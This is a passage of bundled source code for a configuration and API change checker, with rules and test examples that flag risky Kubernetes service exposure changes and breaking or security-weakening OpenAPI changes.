      { before: service4("type: ExternalName"), after: service4("type: ClusterIP"), outcome: "hardened" },
      { before: "", after: service4("type: ExternalName"), outcome: "none" }
    ]
  }),
  control({
    id: "config/load-balancer-sources",
    class: "exposure",
    title: "load balancer lets in more addresses",
    why: "Addresses that were kept out now reach the service.",
    fix: "List the ranges that need it.",
    dialect: MANIFESTS,
    governs: atEnd("loadBalancerSourceRanges"),
    rank: noWider,
    absent: 0,
    outcomes: {
      flip: moved2("high"),
      drop: moved2("high"),
      hardened: hardened("load balancer lets in listed addresses only")
    },
    examples: [
      {
        before: service4("loadBalancerSourceRanges: [10.0.0.0/8]"),
        after: service4("loadBalancerSourceRanges: [10.0.0.0/8, 192.168.0.0/16]"),
        outcome: "flip"
      },
      { before: service4("loadBalancerSourceRanges: [10.0.0.0/8]"), after: service4(), outcome: "drop" },
      { before: service4(), after: service4("loadBalancerSourceRanges: [10.0.0.0/8]"), outcome: "hardened" },
      {
        before: service4("loadBalancerSourceRanges: [10.0.0.0/8]"),
        after: service4("loadBalancerSourceRanges: []"),
        outcome: "flip"
      },
      { before: service4("loadBalancerSourceRanges: []"), after: service4(), outcome: "none" },
      { before: service4(), after: service4("loadBalancerSourceRanges: [0.0.0.0/0]"), outcome: "none" },
      {
        before: service4("loadBalancerSourceRanges: [10.0.0.0/8]"),
        after: service4("loadBalancerSourceRanges: [10.1.0.0/16]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/load-balancer-public",
    class: "exposure",
    title: "internal load balancer made public",
    why: "The service gets an address that the internet can reach.",
    fix: "Keep the annotation that makes the load balancer internal.",
    dialect: MANIFESTS,
    governs: annotation(
      AWS,
      "alb.ingress.kubernetes.io/scheme",
      "service.beta.kubernetes.io/aws-load-balancer-scheme",
      "service.beta.kubernetes.io/azure-load-balancer-internal",
      "networking.gke.io/load-balancer-type",
      "cloud.google.com/load-balancer-type"
    ),
    rank: (node) => node.kind === "scalar" ? Number(/^(?:true|internal|0\.0\.0\.0\/0)$/i.test(node.text)) : void 0,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("load balancer now internal") },
    examples: [
      { before: internal(`${AWS}: "true"`), after: internal(`${AWS}: "false"`), outcome: "flip" },
      { before: internal(`${AWS}: "true"`), after: internal(), outcome: "drop" },
      { before: internal(), after: internal(`${AWS}: "true"`), outcome: "hardened" },
      { before: internal(), after: internal(`${AWS}: "false"`), outcome: "none" }
    ]
  }),
  control({
    id: "config/external-ip",
    class: "exposure",
    title: "service takes an address of its own",
    why: "Traffic to these addresses goes to the service, whoever they belong to.",
    fix: "Use a load balancer, which checks whose address it is.",
    dialect: MANIFESTS,
    governs: ofKind("Service", "spec", "externalIPs"),
    rank: addresses,
    absent: 0,
    outcomes: {
      open: moved2("high"),
      flip: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("service gives up its own address")
    },
    examples: [
      { before: service4(), after: service4("externalIPs: [192.0.2.1]"), outcome: "open" },
      {
        before: service4("externalIPs: [192.0.2.1]"),
        after: service4("externalIPs: [192.0.2.2]"),
        outcome: "flip"
      },
      { before: "", after: service4("externalIPs: [192.0.2.1]"), outcome: "born" },
      { before: service4("externalIPs: [192.0.2.1]"), after: service4(), outcome: "hardened" },
      {
        before: service4("externalIPs: [192.0.2.1]"),
        after: service4("externalIPs: [192.0.2.1] # ours"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/openapi/among.ts
var among3 = (...outcomes) => ({ what }) => outcomes.find((outcome) => outcome === what);
function called2(change) {
  const { direction, operation: operation2 } = change;
  const whole3 = direction === void 0 ? `\`${operation2}\`` : `the ${direction} of \`${operation2}\``;
  return change.element === "" ? whole3 : `${elementOf2(change)} in ${whole3}`;
}
var elementOf2 = ({ element, others = 0 }) => `\`${element}\`${others > 0 ? ` (and ${others} more)` : ""}`;
var opening4 = (change) => called2(change).replace(/^the /, "The ");

// src/domains/config/openapi/examples.ts
var operation = (lines, rest = "") => `openapi: 3.0.3
info: { title: shop, version: 1.0.0 }
${rest}
paths:
  /users/{id}:
    post:
      operationId: saveUser${`
${lines}`.replaceAll("\n", "\n      ")}
`;
var limit = (rest) => operation(`parameters: [{ name: limit, in: query, ${rest} }]`);
var asked3 = (schema) => operation(`requestBody: { content: { application/json: { schema: ${schema} } } }`);
var answered = (schema) => operation(`responses: { '200': { content: { application/json: { schema: ${schema} } } } }`);
var user = (name, rest = "") => `{ type: object, properties: { id: { type: string }${name} }${rest} }`;
var shared = (schema) => operation(
  `requestBody: { content: { application/json: { schema: { $ref: '#/components/schemas/User' } } } }
responses: { '200': { content: { application/json: { schema: { $ref: '#/components/schemas/User' } } } } }`,
  `components: { schemas: { User: ${schema} } }`
);

// src/domains/config/rules/openapi/inputs.ts
var NAME3 = ", name: { type: string }";
var WITH_LIMIT = limit("schema: { type: integer }");
var ALONE2 = operation("parameters: []");
var BODY = "content: { application/json: { schema: { type: string } } }";
var inputs_default = [
  configRule({
    id: "config/api-input-required",
    on: "api-changed",
    class: "schema-breaking",
    title: "API asks for more",
    why: "Requests that worked without it are refused.",
    fix: "Keep it optional, with a default for those who leave it out.",
    breaks: ["json", "source"],
    outcomes: {
      "parameter-added-required": {
        risk: "high",
        message: (c) => `${opening4(c)} is a new parameter, and required.`,
        equivalents: ["oasdiff:new-required-request-parameter"]
      },
      "parameter-became-required": {
        risk: "high",
        message: (c) => `The parameter ${called2(c)} is now required.`,
        equivalents: ["oasdiff:request-parameter-became-required"]
      },
      "body-added-required": {
        risk: "high",
        message: (c) => `\`${c.operation}\` now requires a body.`,
        equivalents: ["oasdiff:request-body-added-required"]
      },
      "body-became-required": {
        risk: "high",
        message: (c) => `The body of \`${c.operation}\` is now required.`,
        equivalents: ["oasdiff:request-body-became-required"]
      },
      "property-added-required": {
        risk: "high",
        message: (c) => `${opening4(c)} is new, and required.`,
        equivalents: ["oasdiff:new-required-request-property"]
      },
      "property-became-required": {
        risk: "high",
        message: (c) => `${opening4(c)} is now required.`,
        equivalents: ["oasdiff:request-property-became-required"]
      }
    },
    examples: [
      { before: ALONE2, after: limit("required: true, schema: { type: integer }"), outcome: "parameter-added-required" },
      {
        before: WITH_LIMIT,
        after: limit("required: true, schema: { type: integer }"),
        outcome: "parameter-became-required"
      },
      { before: ALONE2, after: operation(`requestBody: { required: true, ${BODY} }`), outcome: "body-added-required" },
      {
        before: operation(`requestBody: { ${BODY} }`),
        after: operation(`requestBody: { required: true, ${BODY} }`),
        outcome: "body-became-required"
      },
      { before: asked3(user("")), after: asked3(user(NAME3, ", required: [name]")), outcome: "property-added-required" },
      {
        before: asked3(user(NAME3)),
        after: asked3(user(NAME3, ", required: [name]")),
        outcome: "property-became-required"
      },
      { before: ALONE2, after: WITH_LIMIT, outcome: "none" },
      {
        before: WITH_LIMIT.replace("in: query", "in: path"),
        after: limit("required: true, schema: { type: integer }").replace("in: query", "in: path"),
        outcome: "none"
      },
      { before: ALONE2, after: limit("required: true, schema: { type: integer, default: 20 }"), outcome: "none" },
      { before: asked3(user("")), after: asked3(user(NAME3)), outcome: "none" },
      {
        before: asked3(user("")),
        after: asked3(user(", name: { type: string, readOnly: true }", ", required: [name]")),
        outcome: "none"
      }
    ],
    classify: among3(
      "parameter-added-required",
      "parameter-became-required",
      "body-added-required",
      "body-became-required",
      "property-added-required",
      "property-became-required"
    )
  })
];

// src/domains/config/rules/openapi/operations.ts
var API2 = operation("responses: {}");
var WITH_DELETE = `${API2}    delete: { operationId: deleteUser, responses: {} }
`;
var WITH_TEAMS = `${API2}  /teams: { get: { operationId: listTeams, responses: {} } }
`;
var operations_default = [
  configRule({
    id: "config/api-operation-removed",
    on: "api-changed",
    class: "removed",
    title: "API operation removed",
    why: "Clients that call it get an error from the day the server changes.",
    fix: "Mark it as `deprecated`, and remove it once no client calls it.",
    breaks: ["json", "source"],
    outcomes: {
      "path-removed": {
        risk: "high",
        message: (c) => `The path \`${c.operation}\` was removed with all its operations.`,
        equivalents: ["oasdiff:api-path-removed-without-deprecation"]
      },
      "operation-removed": {
        risk: "high",
        message: (c) => `The operation \`${c.operation}\` was removed.`,
        equivalents: ["oasdiff:api-removed-without-deprecation"]
      },
      "deprecated-removed": {
        risk: "low",
        message: (c) => `\`${c.operation}\`, which was marked as deprecated, was removed.`,
        fix: "Check that no client still calls it.",
        equivalents: ["oasdiff:api-removed-with-deprecation", "oasdiff:api-path-removed-with-deprecation"]
      }
    },
    examples: [
      { before: WITH_TEAMS, after: API2, outcome: "path-removed" },
      { before: WITH_DELETE, after: API2, outcome: "operation-removed" },
      {
        before: WITH_DELETE.replace("deleteUser", "deleteUser, deprecated: true"),
        after: API2,
        outcome: "deprecated-removed"
      },
      { before: API2, after: WITH_TEAMS, outcome: "none" },
      { before: API2, after: API2.replace("{id}", "{userId}"), outcome: "none" },
      { before: WITH_TEAMS, after: WITH_TEAMS.replace("/teams", "/groups"), outcome: "none" }
    ],
    classify: (change) => {
      const outcome = among3("path-removed", "operation-removed")(change);
      return outcome && change.isDeprecated ? "deprecated-removed" : outcome;
    }
  }),
  configRule({
    id: "config/api-operation-moved",
    on: "api-changed",
    class: "moved",
    title: "API operation has another address",
    why: "Clients that call the old address get an error; generated code follows once it is built again.",
    fix: "Serve both addresses until clients have moved.",
    breaks: ["json"],
    equivalents: ["oasdiff:api-path-removed-without-deprecation"],
    outcomes: { moved: { risk: "high", message: (c) => `\`${c.from}\` is now \`${c.to}\`.` } },
    examples: [
      { before: WITH_TEAMS, after: WITH_TEAMS.replace("/teams", "/groups"), outcome: "moved" },
      { before: WITH_TEAMS, after: API2, outcome: "none" }
    ],
    classify: ({ what }) => what === "operation-moved" ? "moved" : void 0
  }),
  configRule({
    id: "config/api-operation-renamed",
    on: "api-changed",
    class: "renamed",
    title: "API operation renamed",
    why: "Code generated from the description has another method name and stops compiling; requests stay the same.",
    fix: "Keep the `operationId` while clients are generated from it.",
    breaks: ["source"],
    equivalents: ["oasdiff:api-operation-id-removed"],
    outcomes: {
      renamed: { risk: "medium", message: (c) => `\`${c.from}\` is now called \`${c.to}\` (\`${c.operation}\`).` }
    },
    examples: [
      { before: API2, after: API2.replace("saveUser", "putUser"), outcome: "renamed" },
      { before: API2, after: API2.replace("responses", "summary: saves\n      responses"), outcome: "none" }
    ],
    classify: ({ what }) => what === "operation-id-changed" ? "renamed" : void 0
  }),
  configRule({
    id: "config/api-deprecated",
    on: "api-changed",
    class: "compatibility",
    title: "part of an API deprecated",
    why: "Nothing breaks yet; clients are told to move.",
    fix: "Say in the description what to use instead, and until when it stays.",
    equivalents: ["oasdiff:endpoint-deprecated", "oasdiff:request-parameter-deprecated"],
    outcomes: {
      deprecated: {
        risk: "info",
        message: (c) => `${c.element === "" ? "" : `${elementOf2(c)} of `}\`${c.operation}\` is now deprecated.`
      }
    },
    examples: [
      { before: API2, after: API2.replace("saveUser", "saveUser\n      deprecated: true"), outcome: "deprecated" },
      { before: API2.replace("saveUser", "saveUser\n      deprecated: true"), after: API2, outcome: "none" }
    ],
    classify: among3("deprecated")
  })
];

// src/domains/config/rules/openapi/requests.ts
var WITH_LIMIT2 = limit("schema: { type: integer }");
var ALONE3 = operation("parameters: []");
var BODY2 = "content: { application/json: { schema: { type: string } } }";
var requests_default = [
  configRule({
    id: "config/api-parameter-removed",
    on: "api-changed",
    class: "removed",
    title: "API parameter removed",
    why: "Clients that send it are refused, or get an answer they did not ask for; generated code stops compiling.",
    fix: "Mark it as `deprecated` and keep taking it.",
    breaks: ["json", "source"],
    equivalents: ["oasdiff:request-parameter-removed"],
    outcomes: {
      removed: { risk: "medium", message: (c) => `The parameter ${called2(c)} was removed.` },
      deprecated: {
        risk: "low",
        message: (c) => `The parameter ${called2(c)}, which was marked as deprecated, was removed.`
      }
    },
    examples: [
      { before: WITH_LIMIT2, after: ALONE3, outcome: "removed" },
      { before: limit("deprecated: true, schema: { type: integer }"), after: ALONE3, outcome: "deprecated" },
      { before: WITH_LIMIT2, after: WITH_LIMIT2.replace("integer", "integer, description: at most"), outcome: "none" }
    ],
    classify: ({ what, isDeprecated }) => {
      if (what !== "parameter-removed") return void 0;
      return isDeprecated ? "deprecated" : "removed";
    }
  }),
  configRule({
    id: "config/api-request-narrowed",
    on: "api-changed",
    class: "schema-breaking",
    title: "API takes less",
    why: "Requests that were valid are refused.",
    fix: "Keep taking what was valid.",
    breaks: ["json"],
    outcomes: {
      "enum-narrowed": {
        risk: "high",
        message: (c) => `${opening4(c)} no longer takes \`${c.from}\`.`,
        breaks: ["json", "source"],
        equivalents: ["oasdiff:request-parameter-enum-value-removed", "oasdiff:request-property-enum-value-removed"]
      },
      "enum-added": {
        risk: "medium",
        message: (c) => `${opening4(c)} now takes only \`${c.to}\`.`,
        equivalents: ["oasdiff:request-parameter-became-enum", "oasdiff:request-property-became-enum"]
      },
      "bound-tightened": {
        risk: "medium",
        message: (c) => c.from === void 0 ? `${opening4(c)} has a new bound, \`${c.to}\`.` : `The bound of ${called2(c)} goes from \`${c.from}\` to \`${c.to}\`.`,
        equivalents: ["oasdiff:request-property-max-decreased", "oasdiff:request-property-min-increased"]
      },
      "bound-slight": {
        risk: "low",
        message: (c) => `${opening4(c)} has a new bound, \`${c.to}\`.`,
        why: "Requests that leave it empty are refused."
      },
      "pattern-changed": {
        risk: "medium",
        message: (c) => `The pattern of ${called2(c)} is now \`${c.to}\`.`,
        equivalents: ["oasdiff:request-parameter-pattern-changed", "oasdiff:request-property-pattern-changed"]
      },
      "null-refused": {
        risk: "high",
        message: (c) => `${opening4(c)} may no longer be null.`,
        equivalents: ["oasdiff:request-property-became-not-nullable"]
      },
      "properties-closed": {
        risk: "medium",
        message: (c) => `${opening4(c)} no longer takes properties that it does not list.`
      },
      "variant-removed": {
        risk: "high",
        message: (c) => `${opening4(c)} may no longer be \`${c.from}\`.`,
        breaks: ["json", "source"],
        equivalents: ["oasdiff:request-property-one-of-removed", "oasdiff:request-property-any-of-removed"]
      },
      "body-removed": {
        risk: "medium",
        message: (c) => `\`${c.operation}\` no longer takes a body.`,
        why: "What clients send in it is refused or ignored.",
        breaks: ["json", "source"],
        equivalents: ["oasdiff:request-body-removed"]
      }
    },
    examples: [
      {
        before: limit("schema: { type: string, enum: [few, many] }"),
        after: limit("schema: { type: string, enum: [few] }"),
        outcome: "enum-narrowed"
      },
      {
        before: limit("schema: { type: string }"),
        after: limit("schema: { type: string, enum: [few] }"),
        outcome: "enum-added"
      },
      { before: WITH_LIMIT2, after: limit("schema: { type: integer, maximum: 100 }"), outcome: "bound-tightened" },
      { before: asked3("{ type: string }"), after: asked3("{ type: string, minLength: 1 }"), outcome: "bound-slight" },
      {
        before: asked3("{ type: string }"),
        after: asked3('{ type: string, pattern: "^[a-z]+$" }'),
        outcome: "pattern-changed"
      },
      { before: asked3("{ type: string, nullable: true }"), after: asked3("{ type: string }"), outcome: "null-refused" },
      {
        before: asked3(user("")),
        after: asked3(user("", ", additionalProperties: false")),
        outcome: "properties-closed"
      },
      {
        before: asked3("{ oneOf: [{ $ref: '#/Cat' }, { $ref: '#/Dog' }, { $ref: '#/Cow' }] }"),
        after: asked3("{ oneOf: [{ $ref: '#/Cat' }, { $ref: '#/Dog' }] }"),
        outcome: "variant-removed"
      },
      { before: operation(`requestBody: { ${BODY2} }`), after: ALONE3, outcome: "body-removed" },
      {
        before: limit("schema: { type: string, enum: [few] }"),
        after: limit("schema: { type: string, enum: [many, few] }"),
        outcome: "none"
      },
      {
        before: asked3("{ type: string, nullable: true }"),
        after: asked3("{ type: [string, 'null'] }"),
        outcome: "none"
      },
      {
        before: asked3("{ type: [string, 'null'] }"),
        after: asked3("{ oneOf: [{ type: string }, { type: 'null' }] }"),
        outcome: "none"
      },
      { before: limit("schema: { maximum: 9 }"), after: limit("schema: { maximum: 99 }"), outcome: "none" }
    ],
    classify: among3(
      "enum-narrowed",
      "enum-added",
      "bound-tightened",
      "bound-slight",
      "pattern-changed",
      "null-refused",
      "properties-closed",
      "variant-removed",
      "body-removed"
    )
  })
];

// src/domains/config/rules/openapi/responses.ts
var NAME4 = ", name: { type: string }";
var answers = (responses) => operation(`responses: { ${responses} }`);
var OK = "'200': { description: done }";
var MISSING = "'404': { description: missing }";
var LINK = (rest) => answers(`'200': { headers: { Link: { ${rest}schema: { type: string } } }, description: done }`);
var responses_default = [
  configRule({
    id: "config/api-response-removed",
    on: "api-changed",
    class: "removed",
    title: "API no longer answers so",
    why: "Clients that wait for it treat what they get instead as an error.",
    fix: "Keep answering so, beside the new way.",
    breaks: ["json", "source"],
    outcomes: {
      success: {
        risk: "high",
        message: (c) => `\`${c.operation}\` no longer answers \`${c.element}\`.`,
        equivalents: ["oasdiff:response-success-status-removed"]
      },
      replaced: {
        risk: "medium",
        title: "API answers with another status",
        message: (c) => `\`${c.operation}\` answers \`${c.to}\` in place of \`${c.from}\`.`,
        why: "Clients that look for the one status, and code generated for it, take the other for an error.",
        fix: "Keep the status; the better one is not worth a break.",
        equivalents: ["oasdiff:response-success-status-removed"]
      },
      failure: {
        risk: "low",
        message: (c) => `\`${c.operation}\` no longer answers \`${c.element}\`.`,
        why: "Clients no longer know what the failure looks like.",
        fix: "Keep describing failures that still happen.",
        equivalents: ["oasdiff:response-non-success-status-removed"]
      },
      header: {
        risk: "medium",
        message: (c) => `The header \`${c.element}\` of the response of \`${c.operation}\` was removed.`,
        why: "Clients that read it find nothing.",
        fix: "Keep sending it until no client reads it.",
        equivalents: ["oasdiff:required-response-header-removed"]
      },
      "optional-header": {
        risk: "low",
        message: (c) => `The optional header \`${c.element}\` of the response of \`${c.operation}\` was removed.`,
        why: "Clients that read it no longer find it.",
        fix: "Keep sending it until no client reads it.",
        equivalents: ["oasdiff:optional-response-header-removed"]
      }
    },
    examples: [
      { before: answers(`${OK}, '202': { description: soon }`), after: answers(OK), outcome: "success" },
      { before: answers(OK), after: answers(OK.replace("200", "201")), outcome: "replaced" },
      { before: answers(`${OK}, ${MISSING}`), after: answers(OK), outcome: "failure" },
      { before: LINK("required: true, "), after: answers(OK), outcome: "header" },
      { before: LINK(""), after: answers(OK), outcome: "optional-header" },
      { before: answers(OK), after: answers(`${OK}, ${MISSING}`), outcome: "none" },
      { before: answers(OK), after: answers(OK.replace("200", "2XX")), outcome: "none" }
    ],
    classify: ({ what, element, isRequired }) => {
      if (what === "header-removed") return isRequired ? "header" : "optional-header";
      if (what === "status-replaced") return "replaced";
      if (what !== "status-removed") return void 0;
      return element.startsWith("2") ? "success" : "failure";
    }
  }),
  configRule({
    id: "config/api-response-widened",
    on: "api-changed",
    class: "schema-breaking",
    title: "API may answer something new",
    why: "Clients that read only what was described fail on it.",
    fix: "Add it as a new property, or under a new version.",
    breaks: ["json"],
    outcomes: {
      "enum-widened": {
        risk: "low",
        message: (c) => `${opening4(c)} may now be \`${c.to}\`.`,
        why: "Clients whose list of values is closed fail to read the new one.",
        fix: "Tell clients beforehand to expect values they do not know.",
        equivalents: ["oasdiff:response-property-enum-value-added"]
      },
      "null-returned": {
        risk: "medium",
        message: (c) => `${opening4(c)} may now be null.`,
        why: "Clients that read it without a look fail where it is null.",
        breaks: ["json", "source"],
        equivalents: ["oasdiff:response-property-became-nullable"]
      },
      "property-became-optional": {
        risk: "medium",
        message: (c) => `${opening4(c)} is no longer always there.`,
        why: "Clients that read it without a look fail where it is missing.",
        fix: "Keep sending it, with an empty value if need be.",
        breaks: ["json", "source"],
        equivalents: ["oasdiff:response-property-became-optional"]
      },
      "bound-loosened": {
        risk: "low",
        message: (c) => `The bound of ${called2(c)} goes from \`${c.from}\` to \`${c.to}\`.`,
        why: "Clients that made room for the old bound fail on what goes beyond it.",
        fix: "Tell clients beforehand what to expect.",
        equivalents: ["oasdiff:response-property-max-increased", "oasdiff:response-property-min-decreased"]
      },
      "variant-added": {
        risk: "medium",
        message: (c) => `${opening4(c)} may now also be \`${c.to}\`.`,
        equivalents: ["oasdiff:response-property-one-of-added", "oasdiff:response-property-any-of-added"]
      }
    },
    examples: [
      {
        before: answered("{ type: string, enum: [paid] }"),
        after: answered("{ type: string, enum: [paid, refunded] }"),
        outcome: "enum-widened"
      },
      {
        before: answered("{ type: string }"),
        after: answered("{ type: string, nullable: true }"),
        outcome: "null-returned"
      },
      {
        before: answered(user(NAME4, ", required: [name]")),
        after: answered(user(NAME4)),
        outcome: "property-became-optional"
      },
      {
        before: answered("{ oneOf: [{ $ref: '#/Cat' }, { $ref: '#/Dog' }] }"),
        after: answered("{ oneOf: [{ $ref: '#/Cat' }, { $ref: '#/Dog' }, { $ref: '#/Cow' }] }"),
        outcome: "variant-added"
      },
      {
        before: answered("{ oneOf: [{ $ref: '#/Cat' }] }"),
        after: answered("{ oneOf: [{ $ref: '#/Cat' }, { $ref: '#/Dog' }] }"),
        outcome: "variant-added"
      },
      {
        before: answered("{ anyOf: [{ type: string }, { type: boolean }] }"),
        after: answered("{ anyOf: [{ type: boolean }, { type: string }, { type: integer }] }"),
        outcome: "variant-added"
      },
      {
        before: answered("{ type: integer, maximum: 5 }"),
        after: answered("{ type: integer, maximum: 9 }"),
        outcome: "bound-loosened"
      },
      { before: answered(user(NAME4)), after: answered(user(NAME4, ", required: [name]")), outcome: "none" },
      {
        before: answered("{ anyOf: [{ type: string }, { type: integer }] }"),
        after: answered("{ anyOf: [{ type: integer, minimum: 1 }, { type: string }] }"),
        outcome: "none"
      },
      {
        before: answered("{ type: string, enum: [paid, open] }"),
        after: answered("{ type: string, enum: [open] }"),
        outcome: "none"
      }
    ],
    classify: among3("enum-widened", "null-returned", "property-became-optional", "bound-loosened", "variant-added")
  })
];

// src/domains/config/rules/openapi/schemas.ts
var NAME5 = ", name: { type: string }";
var schemas_default = [
  configRule({
    id: "config/api-property-removed",
    on: "api-changed",
    class: "removed",
    title: "property of an API removed",
    why: "Clients that read it find nothing, and generated code stops compiling.",
    fix: "Mark it as `deprecated` and keep it until no client uses it.",
    breaks: ["json", "source"],
    outcomes: {
      "from-response": {
        risk: "high",
        message: (c) => `${opening4(c)} was removed.`,
        equivalents: ["oasdiff:response-required-property-removed", "oasdiff:response-optional-property-removed"]
      },
      "from-request": {
        risk: "medium",
        message: (c) => `${opening4(c)} was removed.`,
        why: "What clients send in it is refused or ignored, and generated code stops compiling.",
        equivalents: ["oasdiff:request-property-removed"]
      },
      deprecated: { risk: "low", message: (c) => `${opening4(c)}, which was marked as deprecated, was removed.` },
      renamed: {
        risk: "high",
        class: "renamed",
        title: "property of an API renamed",
        message: (c) => `${opening4(c)} is now \`${c.to}\`, judging by its name and type.`,
        why: "Clients that use the old name lose the value, and generated code stops compiling.",
        fix: "Keep both names until clients have moved.",
        equivalents: ["oasdiff:response-required-property-removed", "oasdiff:request-property-removed"]
      }
    },
    examples: [
      { before: answered(user(NAME5)), after: answered(user("")), outcome: "from-response" },
      { before: shared(user(NAME5)), after: shared(user("")), outcome: "from-response" },
      { before: asked3(user(NAME5)), after: asked3(user("")), outcome: "from-request" },
      {
        before: answered(user(", name: { type: string, deprecated: true }")),
        after: answered(user("")),
        outcome: "deprecated"
      },
      {
        before: answered(user(", user_name: { type: string, maxLength: 80 }")),
        after: answered(user(", userName: { type: string, maxLength: 80 }")),
        outcome: "renamed"
      },
      { before: answered(user("")), after: answered(user(NAME5)), outcome: "none" },
      {
        before: asked3(user(", created: { type: string, readOnly: true }")),
        after: asked3(user("")),
        outcome: "none"
      },
      { before: answered(user(NAME5)), after: shared(user(NAME5)).replace("operationId", "x-was"), outcome: "none" }
    ],
    classify: ({ what, isDeprecated, direction }) => {
      if (what === "property-renamed") return "renamed";
      if (what !== "property-removed") return void 0;
      if (isDeprecated) return "deprecated";
      return direction === "response" ? "from-response" : "from-request";
    }
  }),
  configRule({
    id: "config/api-type-changed",
    on: "api-changed",
    class: "type-changed",
    title: "type in an API changed",
    why: "Values that one side sends are none that the other side reads, and generated code stops compiling.",
    fix: "Add a new property of the new type, and keep the old one.",
    breaks: ["json", "source"],
    outcomes: {
      type: {
        risk: "high",
        message: (c) => `The type of ${called2(c)} goes from \`${c.from}\` to \`${c.to}\`.`,
        equivalents: [
          "oasdiff:request-parameter-type-changed",
          "oasdiff:request-property-type-changed",
          "oasdiff:response-property-type-changed"
        ]
      },
      format: {
        risk: "medium",
        message: (c) => `The format of ${called2(c)} goes from \`${c.from}\` to \`${c.to}\`.`,
        why: "Values in the one format may be none in the other, and generated code may get another type.",
        equivalents: ["oasdiff:request-property-type-changed", "oasdiff:response-property-type-changed"]
      }
    },
    examples: [
      {
        before: limit("schema: { type: integer }"),
        after: limit("schema: { type: string }"),
        outcome: "type"
      },
      { before: answered("{ type: integer }"), after: answered("{ type: number }"), outcome: "type" },
      {
        before: answered("{ type: string, format: date }"),
        after: answered("{ type: string, format: date-time }"),
        outcome: "format"
      },
      { before: asked3("{ type: integer }"), after: asked3("{ type: number }"), outcome: "none" },
      {
        before: answered("{ type: integer, format: int64 }"),
        after: answered("{ type: integer, format: int32 }"),
        outcome: "none"
      },
      { before: asked3("{ type: string }"), after: asked3("{ type: [string, integer] }"), outcome: "none" }
    ],
    classify: ({ what }) => {
      if (what === "type-changed") return "type";
      return what === "format-changed" ? "format" : void 0;
    }
  }),
  configRule({
    id: "config/api-media-type-removed",
    on: "api-changed",
    class: "removed",
    title: "media type of an API removed",
    why: "Clients that speak it are refused.",
    fix: "Keep it beside the new one.",
    breaks: ["json"],
    equivalents: ["oasdiff:request-body-media-type-removed", "oasdiff:response-media-type-removed"],
    outcomes: {
      removed: {
        risk: "high",
        message: (c) => `\`${c.operation}\` no longer ${c.direction === "request" ? "takes" : "answers in"} \`${c.element}\`.`
      }
    },
    examples: [
      {
        before: asked3("{ type: string }"),
        after: asked3("{ type: string }").replace("application/json", "text/plain"),
        outcome: "removed"
      },
      {
        before: answered("{ type: string }"),
        after: answered("{ type: string }").replace("application/json", "application/json; charset=utf-8"),
        outcome: "none"
      },
      {
        before: answered("{ type: string }"),
        after: answered("{ type: string }").replace("application/json", '"*/*"'),
        outcome: "none"
      }
    ],
    classify: ({ what }) => what === "media-type-removed" ? "removed" : void 0
  }),
  configRule({
    id: "config/api-default-changed",
    on: "api-changed",
    class: "compatibility",
    title: "default in an API changed",
    why: "Requests that leave it out now mean something else.",
    fix: "Keep the default, and let clients that want the new value send it.",
    breaks: ["json"],
    equivalents: ["oasdiff:request-parameter-default-value-changed", "oasdiff:request-property-default-value-changed"],
    outcomes: {
      changed: { risk: "low", message: (c) => `The default of ${called2(c)} goes from \`${c.from}\` to \`${c.to}\`.` }
    },
    examples: [
      {
        before: limit("schema: { type: integer, default: 20 }"),
        after: limit("schema: { type: integer, default: 50 }"),
        outcome: "changed"
      },
      { before: operation("parameters: []"), after: limit("schema: { default: 50 }"), outcome: "none" },
      { before: limit("schema: { default: 1h }"), after: limit("schema: { default: 60m }"), outcome: "none" }
    ],
    classify: ({ what }) => what === "default-changed" ? "changed" : void 0
  })
];

// src/domains/config/rules/openapi/security.ts
var secured = (security, schemes = "key: { type: apiKey, in: header }, login: { type: oauth2 }") => operation("responses: {}", `${security}
components: { securitySchemes: { ${schemes} } }`);
var LOGIN = "security: [{ login: [read, write] }]";
var scheme = (definition2) => secured("security: [{ key: [] }]", `key: ${definition2}`);
var HEADER = "{ type: apiKey, name: key, in: header }";
var CODE = "{ type: oauth2, flows: { authorizationCode: {} } }";
var server = (url2) => operation("responses: {}", `servers: [{ url: '${url2}' }]`);
var changed3 = (c) => `\`${c.operation}\` asked for \`${c.from}\`, and now for \`${c.to}\`.`;
var security_default = [
  configRule({
    id: "config/api-security-weakened",
    on: "api-changed",
    class: "permission-widening",
    title: "API asks for weaker credentials",
    why: "Callers get in who could not before.",
    fix: "Keep what was asked for; open single operations on purpose, with `security: []` and a reason.",
    outcomes: {
      "security-removed": {
        risk: "high",
        title: "API open to everybody",
        message: (c) => `\`${c.operation}\` asked for \`${c.from}\`, and now for nothing.`,
        equivalents: ["checkov:CKV_OPENAPI_4", "checkov:CKV_OPENAPI_5"]
      },
      "security-weakened": { risk: "high", message: changed3, equivalents: ["oasdiff:api-security-scope-removed"] },
      "scheme-weakened": {
        risk: "high",
        message: (c) => `The scheme \`${c.element}\` goes from \`${c.from}\` to \`${c.to}\`.`,
        equivalents: ["oasdiff:api-security-component-type-changed"]
      },
      "credentials-exposed": {
        risk: "medium",
        message: (c) => `The scheme \`${c.element}\` now allows ${c.to ?? ""}.`,
        why: "Credentials end up in the logs, histories or pages of others.",
        fix: "Take keys in a header, and tokens by the `authorizationCode` flow.",
        equivalents: ["checkov:CKV_OPENAPI_20"]
      }
    },
    examples: [
      { before: secured(LOGIN), after: secured(""), outcome: "security-removed" },
      { before: secured(LOGIN), after: secured("security: [{ login: [read] }]"), outcome: "security-weakened" },
      { before: secured(LOGIN), after: secured("security: [{ key: [] }]"), outcome: "security-weakened" },
      { before: scheme("{ type: http, scheme: bearer }"), after: scheme(HEADER), outcome: "scheme-weakened" },
      { before: scheme(HEADER), after: scheme(HEADER.replace("header", "query")), outcome: "credentials-exposed" },
      {
        before: scheme(CODE),
        after: scheme(CODE.replace("flows: {", "flows: { implicit: {},")),
        outcome: "credentials-exposed"
      },
      { before: secured(LOGIN), after: secured("security: [{ login: [write, read] }]"), outcome: "none" },
      { before: secured(""), after: secured(LOGIN), outcome: "none" }
    ],
    classify: among3("security-removed", "security-weakened", "scheme-weakened", "credentials-exposed")
  }),
  configRule({
    id: "config/api-security-tightened",
    on: "api-changed",
    class: "schema-breaking",
    title: "API asks for other credentials",
    why: "Clients that bring what was enough are refused.",
    fix: "Take both until all clients have the new credentials.",
    breaks: ["json"],
    outcomes: {
      "security-required": {
        risk: "medium",
        title: "API now asks who calls",
